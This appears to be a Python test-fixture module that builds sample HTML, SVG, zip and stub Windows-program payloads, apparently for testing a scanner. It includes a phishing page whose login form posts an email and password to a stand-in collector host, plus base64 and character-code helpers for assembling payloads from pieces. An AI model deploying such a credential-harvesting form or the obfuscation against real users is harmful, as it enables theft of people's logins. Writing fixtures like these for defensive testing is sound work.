"""Pages for the tests of HTML and SVG: harmless ones, and payloads that are put together from pieces."""

from __future__ import annotations

import base64
import io
import zipfile

PASSWORD = "<input type='email' name='user'><input type='password' name='word'><button>Next</button>"
SINK = "https://collector.example.net/next.php"
PHISH = f"<html><body><form action='{SINK}' method='post'>{PASSWORD}</form></body></html>"
#: What ordinary saved pages have: words, links to their own site, scripts of others.
CONTENT = "".join(
    f"<p>Paragraph {number} tells about our product and its price in words.</p>"
    f"<a href='https://www.shop.example.org/article/{number}'>Article {number}</a>"
    for number in range(40)
)


def page(body: str, head: str = "") -> bytes:
    """Return a whole page."""
    return f"<!DOCTYPE html><html><head><title>Document</title>{head}</head><body>{body}</body></html>".encode()


def script(code: str, body: str = "") -> bytes:
    """Return a page with a script and little else."""
    return page(f"{body}<script>{code}</script>")


def svg(content: str, attributes: str = "") -> bytes:
    """Return a picture."""
    return f"<svg xmlns='http://www.w3.org/2000/svg' {attributes}><rect width='9' height='9'/>{content}</svg>".encode()


def zipped(name: str = "letter.txt", content: bytes = b"Dear customer\r\n" * 40) -> bytes:
    """Return a zip with one file."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(name, content)
    return packed.getvalue()


def program() -> bytes:
    """Return the smallest thing that is a Windows program by its headers."""
    return b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(400)


def b64(content: bytes | str) -> str:
    """Return base64 of bytes or a text."""
    return base64.b64encode(content.encode() if isinstance(content, str) else content).decode()


def codes_of(text: str) -> str:
    """Return the character codes of a text, as a script lists them."""
    return ",".join(str(ord(letter)) for letter in text)
